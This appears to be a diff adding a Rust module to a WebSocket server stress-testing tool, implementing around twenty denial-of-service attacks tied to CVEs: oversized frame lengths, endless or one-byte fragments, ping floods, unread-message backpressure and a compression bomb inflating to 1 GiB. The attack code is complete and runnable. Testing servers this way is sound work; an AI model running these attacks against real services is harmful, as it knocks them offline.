@@ -1,0 +1,181 @@
+//! Attacks on an open connection.
+
+use std::sync::LazyLock;
+use std::time::Duration;
+
+use flate2::{Compress, Compression, FlushCompress};
+
+use super::Attack;
+use super::link::{Link, Target, frame, header};
+
+const MIB: u64 = 1 << 20;
+const ANSWER: Duration = Duration::from_millis(1500);
+const OFFER: &str = "Sec-WebSocket-Extensions: permessage-deflate\r\n";
+
+const fn attack(name: &'static str, known_by: &'static str, run: fn(&Target) -> String) -> Attack {
+    Attack { name, known_by, slow: false, run }
+}
+
+pub(crate) const ATTACKS: &[Attack] = &[
+    attack(
+        "announced-length",
+        "CVE-2022-35922, CVE-2026-54274: 200 connections that announce 15 MiB",
+        announced,
+    ),
+    attack("length-overflow", "CVE-2020-27813, CVE-2026-1528: a length of 2^63 - 1", |target| {
+        with(target, |link| link.send(&header(0x82, (1 << 63) - 1)))
+    }),
+    attack("length-top-bit", "CVE-2020-13935: a length whose highest bit is set", |target| {
+        with(target, |link| link.send(&header(0x82, u64::MAX)))
+    }),
+    attack("length-of-ping", "CVE-2020-13935: a ping of 2^32 bytes", |target| {
+        with(target, |link| link.send(&header(0x89, 1 << 32)))
+    }),
+    attack(
+        "endless-message",
+        "CVE-2014-0193, CVE-2026-42786, CVE-2026-9675: continuations without end",
+        |target| {
+            with(target, |link| {
+                link.send(&frame(0x02, b"x"));
+                repeat(link, &frame(0x00, &[7; 16_000]), 256 * MIB);
+            })
+        },
+    ),
+    attack("tiny-fragments", "CVE-2026-48779: continuations of one byte", |target| {
+        with(target, |link| {
+            link.send(&frame(0x02, b"x"));
+            repeat(link, &frame(0x00, b"x").repeat(1000), 16 * MIB);
+        })
+    }),
+    attack("empty-fragments", "CVE-2026-12151: continuations of nothing", |target| {
+        with(target, |link| {
+            link.send(&frame(0x02, b"x"));
+            repeat(link, &frame(0x00, b"").repeat(1000), 16 * MIB);
+        })
+    }),
+    attack("unread-messages", "CVE-2020-35896: messages whose answers are not read", |target| {
+        with(target, |link| {
+            link.heard().deaf = true;
+            repeat(link, &frame(0x82, &[7; 1000]).repeat(16), 256 * MIB);
+        })
+    }),
+    attack("unread-pings", "CVE-2020-35896: pings whose answers are not read", |target| {
+        with(target, |link| {
+            link.heard().deaf = true;
+            repeat(link, &frame(0x89, &[7; 125]).repeat(100), 256 * MIB);
+        })
+    }),
+    attack("ping-flood", "100,000 pings whose answers are read", |target| {
+        with(target, |link| {
+            for _ in 0..1000 {
+                link.send(&frame(0x89, b"?").repeat(100));
+            }
+            link.wait_for(Duration::from_secs(10), |heard| heard.pongs >= 100_000);
+        })
+    }),
+    attack("close-loop", "1000 times Close, and messages behind it", |target| {
+        with(target, |link| {
+            link.send(&[frame(0x88, &[3, 0xE8]).repeat(1000), frame(0x81, b"behind").repeat(1000)].concat());
+        })
+    }),
+    attack("byte-at-a-time", "a message of 100 kB, a byte at a time", |target| {
+        with(target, |link| {
+            let message = frame(0x82, &[7; 100_000]);
+            for byte in &message {
+                link.send(std::slice::from_ref(byte));
+            }
+            link.wait_for(Duration::from_secs(3), |heard| heard.messages > 0);
+        })
+    }),
+    attack("not-masked", "a frame without a mask", |target| with(target, |link| link.send(b"\x81\x02Hi"))),
+    attack("not-utf8", "text that begins with bytes that are none", |target| {
+        with(target, |link| link.send(&[header(0x81, 1000), vec![0xFF, 0xFE]].concat()))
+    }),
+    attack("not-agreed", "CVE-2026-59881: a compressed frame without an agreement on it", |target| {
+        with(target, |link| link.send(&frame(0xC2, &[0])))
+    }),
+    attack("bomb", "CVE-2018-1000518, CVE-2026-1526: a message that inflates to 1 GiB", |target| {
+        bomb(target, |link, payload| link.send(&frame(0xC2, payload)))
+    }),
+    attack("bomb-in-fragments", "the same in fragments of 100 bytes", |target| {
+        bomb(target, |link, payload| {
+            let mut bytes = frame(0x42, &[]);
+            payload.chunks(100).for_each(|part| bytes.extend(frame(0x00, part)));
+            link.send(&bytes)
+        })
+    }),
+    attack("not-deflate", "a compressed message that is no DEFLATE", |target| {
+        bomb(target, |link, _| link.send(&frame(0xC2, &[0xFF; 100])))
+    }),
+    Attack {
+        slow: true,
+        ..attack("no-answer-to-close", "a connection that fails and whose end is not answered", |target| {
+            let Ok(mut link) = target.open("") else { return "no 101".into() };
+            link.send(&frame(0x83, b""));
+            link.outcome(target.most)
+        })
+    },
+];
+
+fn with<T>(target: &Target, attack: impl FnOnce(&mut Link) -> T) -> String {
+    match target.open("") {
+        Ok(mut link) => {
+            attack(&mut link);
+            link.outcome(ANSWER)
+        }
+        Err(error) => error.to_string(),
+    }
+}
+
+/// The same again until it is not taken any more, an answer came or so much was sent.
+fn repeat(link: &mut Link, bytes: &[u8], most: u64) {
+    while link.sent < most && link.send(bytes) {
+        let heard = link.heard();
+        if heard.over || !heard.closes.is_empty() {
+            return;
+        }
+    }
+}
+
+fn announced(target: &Target) -> String {
+    let mut links: Vec<_> = (0..200).filter_map(|_| target.open("").ok()).collect();
+    for link in &mut links {
+        link.send(&[header(0x82, 15 * MIB), vec![7; 10]].concat());
+    }
+    std::thread::sleep(Duration::from_millis(300));
+    format!("{} open, {} of them still", links.len(), links.iter().filter(|link| !link.heard().over).count())
+}
+
+fn bomb(target: &Target, attack: impl FnOnce(&mut Link, &[u8]) -> bool) -> String {
+    match target.open(OFFER) {
+        Ok(link) if !link.heard().deflate => "compression is not agreed on".into(),
+        Ok(mut link) => {
+            attack(&mut link, &BOMB);
+            link.outcome(Duration::from_secs(5))
+        }
+        Err(error) => error.to_string(),
+    }
+}
+
+static BOMB: LazyLock<Vec<u8>> = LazyLock::new(|| zeros(1 << 30));
+
+/// What takes the attacker time is done before time is taken.
+pub(crate) fn prepare() {
+    LazyLock::force(&BOMB);
+}
+
+/// The payload of a message of `len` zeros.
+fn zeros(len: usize) -> Vec<u8> {
+    let part = vec![0; 1 << 20];
+    let mut compress = Compress::new(Compression::fast(), false);
+    let mut out = Vec::with_capacity(len / 100 + 1024);
+    for at in (0..len).step_by(part.len()) {
+        let last = at + part.len() >= len;
+        let flush = if last { FlushCompress::Sync } else { FlushCompress::None };
+        if compress.compress_vec(&part[..part.len().min(len - at)], &mut out, flush).is_err() {
+            break;
+        }
+    }
+    out.truncate(out.len().saturating_sub(4));
+    out
+}
